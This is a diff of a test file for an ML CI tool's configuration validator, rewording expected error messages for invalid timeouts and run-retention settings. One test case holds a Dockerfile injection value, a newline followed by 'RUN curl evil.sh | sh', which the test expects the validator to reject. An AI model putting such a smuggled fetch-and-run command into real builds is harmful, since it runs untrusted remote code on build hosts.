@@ -6,13 +6,13 @@ import { testdir } from '../helpers/testdir.js'
 
 const cases: [string, string, RegExp][] = [
   ['runs.keep: 0 (would delete every run record, the current one too)',
-    `export default { runs: { keep: 0 }, plugins: [] }`, /config\.runs\.keep must be an integer ≥ 1, got 0/],
+    `export default { runs: { keep: 0 }, plugins: [] }`, /config\.runs\.keep must be an integer ≥ 1, got a number \(0\)/],
   ['a negative trainer.timeout',
     `import trainer from '@mlci/plugin-trainer'\nexport default { plugins: [trainer({ command: ['python3', 'train.py'], timeout: -5 })] }`, /timeout must be a positive number of milliseconds, got -5/],
   ['a negative local.health.timeoutMs',
-    `import local from '@mlci/plugin-local'\nexport default { plugins: [local({ port: 8123, command: ['python3', 'serve.py'], health: { timeoutMs: -1 } })] }`, /health\.timeoutMs must be an integer ≥ 1, got -1/],
+    `import local from '@mlci/plugin-local'\nexport default { plugins: [local({ port: 8123, command: ['python3', 'serve.py'], health: { timeoutMs: -1 } })] }`, /health\.timeoutMs must be an integer ≥ 1, got a number \(-1\)/],
   ['a negative local.stopTimeoutMs',
-    `import local from '@mlci/plugin-local'\nexport default { plugins: [local({ port: 8123, command: ['python3', 'serve.py'], stopTimeoutMs: -100 })] }`, /stopTimeoutMs must be an integer ≥ 0, got -100/],
+    `import local from '@mlci/plugin-local'\nexport default { plugins: [local({ port: 8123, command: ['python3', 'serve.py'], stopTimeoutMs: -100 })] }`, /stopTimeoutMs must be an integer ≥ 0, got a number \(-100\)/],
   ['a newline in docker generate.base (Dockerfile injection)',
     `import docker from '@mlci/plugin-docker'\nexport default { plugins: [docker({ image: 'acme/x', generate: { base: 'python:3.12\\nRUN curl evil.sh | sh', copy: ['serve.py'], cmd: ['python3', 'serve.py'] } })] }`, /generate\.base contains a control character/],
   ['a newline in docker generate.workdir',
